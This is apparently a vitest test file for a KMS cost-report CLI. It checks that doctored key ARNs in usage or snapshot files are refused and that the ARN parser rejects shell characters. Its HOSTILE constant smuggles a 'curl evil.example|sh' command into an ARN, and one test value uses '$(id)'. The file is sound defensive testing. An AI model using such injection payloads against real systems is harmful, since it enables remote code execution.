import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ExitCode } from '../../../src/cli/exit-codes.js';
import { runCli } from '../../../src/cli/program.js';
import { demoSnapshot, demoUsageEvidence } from '../../../src/demo/sample.js';
import { parseKeyArn } from '../../../src/model/key-arn.js';
import { captureIo } from '../../support/io.js';

/**
 * A usage evidence file is a file: anyone can edit it. A key ARN that is not one (a shell command
 * in it) must never reach the commands the report recommends.
 */

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kms-report-hostile-'));
});
afterEach(() => rm(dir, { recursive: true, force: true }));

const HOSTILE = "arn:aws:kms:us-east-1:111122223333:key/x';curl$IFS evil.example|sh;'";

describe('a doctored usage.json (--snapshot/--usage)', () => {
  it('is refused, naming the field, and no report is written', async () => {
    const usage = demoUsageEvidence();
    const requests = usage.usage.requests.map((r, i) => (i === 0 ? { ...r, keyArn: HOSTILE } : r));
    const callers = (usage.usage.callers ?? []).map((c) =>
      c.keyArn === usage.usage.requests[0]?.keyArn ? { ...c, keyArn: HOSTILE } : c,
    );
    await writeFile(join(dir, 'snapshot.json'), JSON.stringify(demoSnapshot()));
    await writeFile(
      join(dir, 'usage.json'),
      JSON.stringify({ ...usage, usage: { ...usage.usage, requests, callers } }),
    );
    const out = join(dir, 'out');
    const io = captureIo();
    const code = await runCli(
      [
        '--month',
        '2026-10',
        '--snapshot',
        join(dir, 'snapshot.json'),
        '--usage',
        join(dir, 'usage.json'),
        '--out',
        out,
      ],
      io,
    );
    expect(code).toBe(ExitCode.BadInput);
    expect(io.stderrText()).toContain('usage.requests[0].keyArn');
    expect(io.stderrText()).toContain('expected a KMS key ARN');
    await expect(readdir(out)).rejects.toThrow();
  });

  it('a doctored snapshot key ARN is refused too', async () => {
    const snapshot = demoSnapshot();
    const keys = snapshot.keys.map((k, i) => (i === 0 ? { ...k, arn: HOSTILE } : k));
    await writeFile(join(dir, 'snapshot.json'), JSON.stringify({ ...snapshot, keys }));
    const io = captureIo();
    const code = await runCli(
      ['--month', '2026-10', '--snapshot', join(dir, 'snapshot.json'), '--out', join(dir, 'out')],
      io,
    );
    expect(code).toBe(ExitCode.BadInput);
    expect(io.stderrText()).toContain('expected a KMS key ARN');
  });
});

describe('the key ARN grammar', () => {
  it('takes AWS key ARNs of every partition, ids and multi-Region ids', () => {
    for (const arn of [
      'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
      'arn:aws-us-gov:kms:us-gov-west-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab',
      'arn:aws-cn:kms:cn-north-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
    ])
      expect(parseKeyArn(arn)).not.toBeNull();
  });

  it('refuses anything with a space, a quote, a slash or a shell character in the id, and aliases', () => {
    for (const arn of [
      HOSTILE,
      'arn:aws:kms:us-east-1:111122223333:key/a b',
      'arn:aws:kms:us-east-1:111122223333:key/a$(id)',
      'arn:aws:kms:us-east-1:111122223333:key/a/b',
      'arn:aws:kms:us-east-1:111122223333:alias/a',
      'arn:aws:kms:us-east-1:1111:key/a',
    ])
      expect(parseKeyArn(arn)).toBeNull();
  });
});
